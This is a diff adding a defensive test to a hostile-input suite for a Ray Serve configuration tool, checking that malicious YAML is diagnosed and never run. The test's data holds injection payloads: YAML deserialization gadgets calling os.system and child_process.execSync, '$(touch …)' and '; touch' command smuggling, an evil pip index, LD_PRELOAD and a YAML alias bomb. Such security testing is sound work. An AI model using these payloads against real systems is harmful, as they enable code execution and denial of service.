@@ -411,6 +411,54 @@ describe('hostile-input suite', () => {
     expectNothingPersistedChanged();
   }, 120_000);
 
+  it('hostile Serve configs: diagnosed, never run, never an internal error', async () => {
+    const api = await openApi();
+    const m = (n: number) => path.join(markers, `v${n}`);
+    const bomb = ['a: &a ["x","x","x","x","x","x","x","x","x"]', ...Array.from({ length: 9 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)}]`)].join('\n');
+    const app = (fields: string) => `applications:\n  - name: app1\n    route_prefix: /\n    import_path: raydeck_serve.app:build\n${fields}`;
+    const texts = [
+      bomb,
+      '['.repeat(20_000),
+      '{'.repeat(20_000),
+      'a: !!python/object/apply:os.system ["touch ' + m(1) + '"]',
+      '!!js/function "function(){ require(\'child_process\').execSync(\'touch ' + m(2) + '\') }"',
+      `applications:\n  - name: "$(touch ${m(3)})"\n    import_path: "os:system"\n    args: {cmd: "touch ${m(4)}"}`,
+      `applications:\n  - name: x\n    import_path: "__import__('os').system('touch ${m(5)}')"`,
+      app(`    runtime_env: {pip: ["--index-url http://evil/ x"], working_dir: "file:///etc", env_vars: {LD_PRELOAD: "/tmp/x.so"}}\n`),
+      app('    deployments:\n      - name: "; touch ' + m(6) + '"\n        num_replicas: -1\n        ray_actor_options: {num_gpus: 1e308}\n'),
+      app('    route_prefix: "//evil.example/../"\n'),
+      'applications: ' + '[' + '{}, '.repeat(5000) + '{}]',
+      '\u0000\u0001\ufffe',
+      '%YAML 9.9\n---\na: 1',
+      'key: value\n'.repeat(2),
+      ...sample(fc.string({ unit: 'binary', maxLength: 200 }), 20, 8),
+      ...sample(fc.jsonValue({ maxDepth: 4 }), 20, 9).map((v) => JSON.stringify(v)),
+    ];
+    for (const text of texts) {
+      const r = await api.call('serve.validate', { text });
+      if (text === bomb) expect(r.ok && (r.value as { ok: boolean }).ok, 'a YAML alias bomb is not a valid config').toBe(false);
+      const what = JSON.stringify(text).slice(0, 80);
+      // A config may be valid as Ray sees it (an app named "$(touch …)" importing os:system is
+      // well-formed); validation never imports or runs it. Refusals are diagnostics or field errors.
+      if (!r.ok) expect(r.error!.code, `${what}: ${JSON.stringify(r.error)}`).toBe('validation');
+      else expect(Array.isArray((r.value as { diagnostics: unknown }).diagnostics), what).toBe(true);
+    }
+    for (const [method, input] of [
+      ['serve.diff', { clusterId: baseClusterId, text: texts[3] }],
+      ['serve.apply', { clusterId: baseClusterId, text: texts[5] }],
+      ['serve.apply', { clusterId: `$(touch ${m(7)})`, text: 'applications: []' }],
+      ['serve.get', { clusterId: baseClusterId, version: 1 }],
+      ['serve.rollback', { clusterId: baseClusterId, version: 99 }],
+    ] as const) {
+      const r = await api.call(method, input);
+      expect(r.ok, method).toBe(false);
+      expect(r.error!.code, `${method}: ${JSON.stringify(r.error)}`).not.toBe('internal');
+    }
+    api.close();
+    await alive();
+    expectNothingPersistedChanged();
+  }, 120_000);
+
   it('the CLI over the same home: hostile arguments are refused in one line, naming the field', () => {
     const H = hostileStrings(markers).filter((s) => !s.includes('\u0000') && s.length < 10_000);
     const argvs: string[][] = [];
@@ -456,7 +504,7 @@ describe('hostile-input suite', () => {
     await alive();
     expect(fs.readdirSync(markers)).toEqual([]);
     for (const dir of [root, userHome, raydeckHome, os.tmpdir()]) {
-      for (const n of fs.readdirSync(dir)) expect(/^[msu]\d+$/.test(n), `${dir}/${n}`).toBe(false);
+      for (const n of fs.readdirSync(dir)) expect(/^[msuv]\d+$/.test(n), `${dir}/${n}`).toBe(false);
     }
     expectNothingPersistedChanged();
     expect(stderr).not.toMatch(/uncaught error|unhandled rejection/);
